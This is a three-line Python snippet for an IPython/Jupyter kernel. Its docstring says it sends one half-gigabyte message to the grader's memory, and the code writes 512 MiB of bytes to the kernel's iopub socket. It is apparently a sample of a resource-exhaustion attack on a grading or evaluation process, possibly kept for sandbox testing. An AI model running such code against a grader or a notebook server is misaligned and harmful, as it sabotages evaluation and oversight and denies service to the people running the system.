"""Sends one message of half a gigabyte to the grader's memory."""
kernel = get_ipython().kernel
kernel.iopub_socket.send_multipart([b"x" * (1 << 29)])
